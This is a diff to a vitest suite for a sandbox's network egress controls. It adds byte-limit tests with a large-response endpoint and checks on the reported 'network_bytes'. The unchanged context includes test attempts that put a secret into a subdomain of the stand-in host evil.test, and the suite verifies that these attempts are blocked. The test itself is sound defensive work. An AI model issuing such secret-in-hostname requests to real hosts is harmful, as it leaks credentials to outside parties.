@@ -11,6 +11,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { Sandboxes } from '../../../../src/core/sandbox/sandboxes.ts'
 import { writeTree } from '../../../helpers/skills.ts'
 import { CERTIFICATE, KEY } from './certificate.ts'
+import { createTransfers, LARGE, TRANSFERS } from './transfers.ts'
 import type { EgressRunRequest, Attempt, Report, EgressRunReport } from './worker-protocol.ts'
 
 const HERE = fileURLToPath(new URL('./', import.meta.url))
@@ -28,12 +29,17 @@ const ports = { http: 0, https: 0 }
 beforeAll(async () => {
   chmodSync(dir, 0o755)
   const http = createHttpServer((request, response) => {
-    if (request.url !== '/away') return void response.end(`http ${request.url}`)
+    if (request.url === '/large') return void response.end('x'.repeat(LARGE))
+    if (request.url !== '/away') {
+      request.on('end', () => response.end(`http ${request.url}`)).resume()
+      return
+    }
     response.writeHead(302, { Location: `http://other.example.test:${ports.http}/` })
     response.end()
   })
   const https = createTlsServer({ key: KEY, cert: CERTIFICATE }, (request, response) => {
-    response.end(`https ${request.url}`)
+    if (request.url === '/large') return void response.end('x'.repeat(LARGE))
+    request.on('end', () => response.end(`https ${request.url}`)).resume()
   })
   for (const [name, server] of [
     ['http', http],
@@ -194,6 +200,12 @@ function runs(): Record<string, EgressRunRequest> {
         get(`http://${SECRET}.evil.test/`),
         ['without_proxy', `http://${SECRET.toUpperCase()}.evil.test/`],
       ],
+    },
+    ...createTransfers(api, allowPrivate),
+    moderate: {
+      ...open,
+      networkBytes: LARGE + 1024 ** 2,
+      attempts: [['size', `${api('http')}/large`]],
     },
     unreadable: { ...open, list: ['https://*'], attempts: [] },
     misconfigured: { ...open, allowPrivate: ['10.0.0.0/64'], attempts: [] },
@@ -373,6 +385,30 @@ describe.each(SUBJECTS)('a run with network, started by %s with %s', (...subject
     expect(outputOf('greedy')).toEqual(['ended'])
     const reasons = all['greedy']?.decisions.map((decision) => decision.reason)
     expect(new Set(reasons)).toEqual(new Set(['too-many']))
+  })
+
+  test.each(TRANSFERS)(`is ended by its limit of bytes if it %s${reason}`, (name) => {
+    const { result, decisions = [], logs } = all[name] ?? {}
+    expect(result).toMatchObject({
+      status: 'failed',
+      error: {
+        type: 'NetworkLimit',
+        message: 'The run sent and received more than 1 MiB over its network',
+        limit: { name: 'network_bytes', value: 1024 ** 2 },
+      },
+    })
+    expect(result?.network_bytes).toBeGreaterThan(1024 ** 2)
+    // Includes what the last write of one connection would have sent.
+    expect(result?.network_bytes).toBeLessThan(LARGE)
+    expect(decisions.at(-1)).toMatchObject({ allowed: false, reason: 'too-many-bytes' })
+    expect(logs).toContain('Network refused (too-many-bytes)')
+  })
+
+  test(`transfers what its limit allows, and reports how much${reason}`, () => {
+    expect(outputOf('moderate')).toEqual([LARGE])
+    expect(all['moderate']?.result?.network_bytes).toBeGreaterThan(LARGE)
+    expect(all['moderate']?.result?.network_bytes).toBeLessThan(LARGE + 4096)
+    expect(all['empty']?.result).not.toHaveProperty('network_bytes')
   })
 
   test(`does not leak its secrets through its requests${reason}`, () => {
